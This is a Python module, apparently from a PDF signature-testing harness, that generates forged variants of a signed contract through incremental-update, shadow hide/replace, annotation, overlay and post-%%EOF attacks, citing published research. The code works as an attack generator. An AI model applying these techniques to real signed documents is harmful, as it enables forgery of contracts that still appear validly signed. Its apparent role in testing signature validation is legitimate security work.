"""Attacks by incremental update on a sealed file: incremental saving (isa), shadow
completions of drafted references, shadow hide / replace / hide-and-replace, overlays,
and unsigned bytes after the last %%EOF (appended)."""

from .contract import DANGLING
from .pdfbytes import FORGED, Info, append_update, flate, stream, text_content, whiteout_then

CONTENT = 5  # the contract's content stream
PAGE = 3


def forged_content() -> bytes:
    return stream(b"", text_content(FORGED))


def _object_then(sealed: bytes, tail: bytes) -> bytes:
    out = bytearray(sealed)
    out += b"%d 0 obj\n%s\nendobj\n" % (CONTENT, forged_content())
    return bytes(out) + tail


def isa(sealed: bytes) -> dict:
    """Incremental saving (Mladenov et al.): a new revision redefining the page's content
    stream, with or without its xref section and trailer. Without a valid xref, viewers
    rebuild the table by scanning, and the last definition of object 5 wins."""
    info = Info(sealed)
    out = {"xref-and-trailer": append_update(sealed, {CONTENT: forged_content()})}
    # A trailer but no xref: startxref names the trailer.
    at = len(sealed) + len(b"%d 0 obj\n%s\nendobj\n" % (CONTENT, forged_content()))
    out["trailer-no-xref"] = _object_then(
        sealed,
        b"trailer\n<< /Size %d /Root %s /Prev %d >>\nstartxref\n%d\n%%%%EOF\n"
        % (info.size, info.root_ref, info.startxref, at),
    )
    # Neither xref nor trailer: only a startxref that names nothing.
    out["no-xref-no-trailer"] = _object_then(sealed, b"startxref\n%d\n%%%%EOF\n" % at)
    # An empty xref section whose trailer has only /Prev.
    out["trailer-prev-only"] = _object_then(
        sealed,
        b"xref\n0 0\ntrailer\n<< /Prev %d >>\nstartxref\n%d\n%%%%EOF\n" % (info.startxref, at),
    )
    return out


def dss_with(sealed: bytes, extra: list[int]) -> dict:
    """Redefinitions of the sealed file's DSS dictionary with `extra` streams in /Certs."""
    info = Info(sealed)
    catalog = info.body(int(info.root_ref.split()[0]))
    dss_num = int(catalog.split(b"/DSS ")[1].split()[0])
    dss = info.body(dss_num)
    refs = b"".join(b" %d 0 R" % n for n in extra)
    return {dss_num: dss.replace(b"/Certs [", b"/Certs [" + refs[1:] + b" ", 1)}


def completed(sealed: bytes, body_dict: bytes, data: bytes) -> dict:
    """The three ways to define DANGLING after sealing: marked /Type /XRef, listed in the
    DSS /Certs, or a plain new stream."""
    # /Type /XRef in place of the form's /Type /XObject (which is optional for readers).
    as_xref = stream(
        b"/Type /XRef /W [1 1 1] /Size 1 " + body_dict.replace(b"/Type /XObject ", b""), data
    )
    plain = stream(body_dict, data)
    return {
        "xref-typed": append_update(sealed, {DANGLING: as_xref}),
        "dss-cert": append_update(sealed, {DANGLING: plain, **dss_with(sealed, [DANGLING])}),
        "plain": append_update(sealed, {DANGLING: plain}),
    }


FORM = b"/Type /XObject /Subtype /Form /BBox [0 0 595 842] /Resources << /Font << /F1 4 0 R >> >>"
GLYPH = b"1000 0 0 0 1000 1000 d1 0 0 1000 1000 re f"


def drafted(sealed_drafts: dict) -> dict:
    """Shadow: the object a draft referred to is defined after sealing."""
    body = {
        "contents": (b"", whiteout_then(FORGED)),
        "xobject": (FORM, whiteout_then(FORGED)),
        "widget": (FORM, whiteout_then(FORGED)),
        "type3": (b"", GLYPH),
    }
    out = {}
    for where, (d, data) in body.items():
        for how, pdf in completed(sealed_drafts[where], d, data).items():
            out[f"drafted-{where}-{how}"] = pdf
    return out


def shadow(sealed: bytes, hide: bytes, shadowed: bytes) -> dict:
    """Hide, replace, hide-and-replace (Mladenov et al., NDSS 2021), and overlays added
    to a plain sealed contract."""
    out = {}
    # Hide: the cover annotation drafted over the forged line is hidden.
    i = Info(hide)
    cover = i.body(6).replace(b"/F 4", b"/F 2")  # 2 = Hidden
    out["hide-annotation"] = append_update(hide, {6: cover})
    # Replace: the drafted, unused object 8 (forged text) becomes the page's contents.
    i = Info(shadowed)
    page = i.body(PAGE).replace(b"/Contents 5 0 R", b"/Contents 8 0 R")
    out["replace-contents-ref"] = append_update(shadowed, {PAGE: page})
    # Hide-and-replace: a whole second document (catalog 10, pages 11, page 12 drawing
    # object 8) hides in the signed draft; the update is only a trailer naming catalog 10.
    at = len(shadowed)
    out["hide-and-replace-root"] = shadowed + (
        b"xref\n0 0\ntrailer\n<< /Size %d /Root 10 0 R /Prev %d >>\nstartxref\n%d\n%%%%EOF\n"
        % (i.size, i.startxref, at)
    )
    # After sealing a plain contract: a FreeText annotation, a Stamp with its appearance,
    # the page's /Contents replaced, an overlay through a new XObject.
    i = Info(sealed)
    page = i.body(PAGE)
    n = i.size
    free_text = (
        b"<< /Type /Annot /Subtype /FreeText /Rect [60 690 460 730] /F 4 /Contents (%s) "
        b"/DA (/Helv 24 Tf 0 g) /AP << /N %d 0 R >> >>" % (FORGED, n + 1)
    )
    ap = stream(
        b"/Type /XObject /Subtype /Form /BBox [0 0 400 40] /Resources << /Font << /F1 4 0 R >> >>",
        b"1 1 1 rg 0 0 400 40 re f 0 0 0 rg BT /F1 24 Tf 12 10 Td (%s) Tj ET" % FORGED,
    )
    annotated = page.replace(b"/Annots [", b"/Annots [%d 0 R " % n, 1)
    out["new-freetext-annotation"] = append_update(
        sealed, {PAGE: annotated, n: free_text, n + 1: ap}
    )
    stamp = free_text.replace(b"/FreeText", b"/Stamp")
    out["new-stamp-annotation"] = append_update(sealed, {PAGE: annotated, n: stamp, n + 1: ap})
    replaced = page.replace(b"/Contents 5 0 R", b"/Contents %d 0 R" % n)
    out["page-contents-replaced"] = append_update(
        sealed, {PAGE: replaced, n: flate(b"", text_content(FORGED))}
    )
    overlay = page.replace(b"/Contents 5 0 R", b"/Contents [5 0 R %d 0 R]" % (n + 2)).replace(
        b"/Font <<", b"/XObject << /Ov %d 0 R >> /Font <<" % (n + 1), 1
    )
    form = stream(FORM, whiteout_then(FORGED))
    out["overlay-xobject"] = append_update(
        sealed, {PAGE: overlay, n + 1: form, n + 2: stream(b"", b"q /Ov Do Q")}
    )
    return out


def appended(sealed: bytes) -> dict:
    """Unsigned objects and a trailer after the last %%EOF, whose startxref still points
    at the last real xref section (readers that rebuild the xref by scanning use them)."""
    info = Info(sealed)
    tail = b"%d 0 obj\n%s\nendobj\ntrailer\n<< /Size %d /Root %s >>\nstartxref\n%d\n%%%%EOF\n" % (
        CONTENT,
        forged_content(),
        info.size,
        info.root_ref,
        info.startxref,
    )
    return {"objects-after-eof": sealed + tail}
